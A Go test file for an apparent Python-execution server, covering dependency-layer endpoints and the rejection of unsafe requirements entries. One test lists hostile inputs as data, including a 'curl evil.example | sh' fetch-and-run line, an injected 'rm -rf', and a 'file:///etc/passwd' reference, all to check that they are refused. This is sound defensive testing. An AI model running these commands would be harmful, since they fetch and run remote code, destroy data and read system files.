package server

import (
	"fmt"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/pyexec/pyexec/api"
)

// fakeLayers is a Layers holding a fixed list; keys in inUse are held.
type fakeLayers struct {
	mu     sync.Mutex
	layers []api.Layer
	inUse  map[string]bool
}

func (f *fakeLayers) List() []api.Layer {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]api.Layer(nil), f.layers...)
}

func (f *fakeLayers) Remove(key string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	for i, l := range f.layers {
		if l.Key != key {
			continue
		}
		if f.inUse[key] {
			return fmt.Errorf("remove %s: %w", key, ErrLayerInUse)
		}
		f.layers = append(f.layers[:i], f.layers[i+1:]...)
		return nil
	}
	return fmt.Errorf("remove %s: %w", key, ErrLayerNotFound)
}

func TestLayersEndpoints(t *testing.T) {
	now := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	layers := &fakeLayers{
		layers: []api.Layer{
			{Key: "aaaa", PythonVersion: "3.12.1", Requirements: []string{"numpy"}, Packages: []string{"numpy==2.0"},
				SizeBytes: 1 << 20, CreatedAt: now, LastUsedAt: now, InUse: true},
			{Key: "bbbb", PythonVersion: "3.11.7", Requirements: []string{"six"}, Packages: []string{"six==1.16.0"},
				SizeBytes: 4096, CreatedAt: now, LastUsedAt: now},
		},
		inUse: map[string]bool{"aaaa": true},
	}
	s := newTestServer(t, Options{Layers: layers}, nil)

	var got api.Layers
	s.get(t, "/api/v1/deps").decode(t, &got)
	if len(got.Layers) != 2 || got.Layers[0].Key != "aaaa" || got.Layers[0].Packages[0] != "numpy==2.0" ||
		!got.Layers[0].InUse || got.Layers[1].SizeBytes != 4096 || !got.Layers[1].LastUsedAt.Equal(now) {
		t.Errorf("GET /api/v1/deps = %+v", got)
	}

	for _, tt := range []struct {
		key    string
		status int
		want   string
	}{
		{"aaaa", http.StatusConflict, "in use"},
		{"nope", http.StatusNotFound, "no layer with key nope"},
		{"bbbb", http.StatusOK, `"status":"removed"`},
		{"bbbb", http.StatusNotFound, "no layer"},
	} {
		res := do(t, http.MethodDelete, s.URL+"/api/v1/deps/"+tt.key, "", nil)
		if res.status != tt.status || !strings.Contains(string(res.body), tt.want) {
			t.Errorf("DELETE %s: %d %s, want %d %q", tt.key, res.status, res.body, tt.status, tt.want)
		}
	}
	if l := layers.List(); len(l) != 1 || l[0].Key != "aaaa" {
		t.Errorf("layers left: %+v", l)
	}
}

func TestLayersEndpointsWithoutCache(t *testing.T) {
	s := newTestServer(t, Options{}, nil)
	res := s.get(t, "/api/v1/deps")
	if res.status != http.StatusOK || strings.TrimSpace(string(res.body)) != `{"layers":[]}` {
		t.Errorf("GET: %d %s", res.status, res.body)
	}
	if res := do(t, http.MethodDelete, s.URL+"/api/v1/deps/abc", "", nil); res.status != http.StatusNotFound {
		t.Errorf("DELETE: %d %s", res.status, res.body)
	}
}

func TestRequirementsRefused(t *testing.T) {
	runner := &fakeRunner{}
	s := newTestServer(t, Options{}, runner)
	archive := makeTar(t, tarEntry{name: "main.py", body: "print(1)"})
	for _, req := range []string{
		"-e git+https://example.com/x.git",
		"numpy\n--index-url http://evil.example/simple",
		"https://evil.example/x.whl",
		"./local",
		"pkg @ file:///etc/passwd",
		"numpy; rm -rf x",
		"numpy && curl evil.example | sh",
	} {
		body := fmt.Sprintf(`{"code":"print(1)","requirements_txt":%q}`, req)
		res := s.postJSON(t, "/api/v1/eval", body)
		if res.status != http.StatusBadRequest || !strings.Contains(string(res.body), "requirements_txt: line ") {
			t.Errorf("eval %q: %d %s", req, res.status, res.body)
		}
		meta := fmt.Sprintf(`{"entrypoint":"main.py","requirements_txt":%q}`, req)
		res = s.postExec(t, "/api/v1/exec/sync", archive, meta)
		if res.status != http.StatusBadRequest || !strings.Contains(string(res.body), "metadata.requirements_txt: line ") {
			t.Errorf("exec %q: %d %s", req, res.status, res.body)
		}
	}
	if n := len(runner.Jobs()); n != 0 {
		t.Errorf("%d refused requests reached the runner", n)
	}
	for _, req := range []string{"numpy==1.26\nrequests[socks]>=2; python_version >= '3.8'  # ok", "-", ""} {
		body := fmt.Sprintf(`{"code":"print(1)","requirements_txt":%q}`, req)
		if res := s.postJSON(t, "/api/v1/eval", body); res.status != http.StatusOK {
			t.Errorf("eval %q: %d %s", req, res.status, res.body)
		}
	}
}
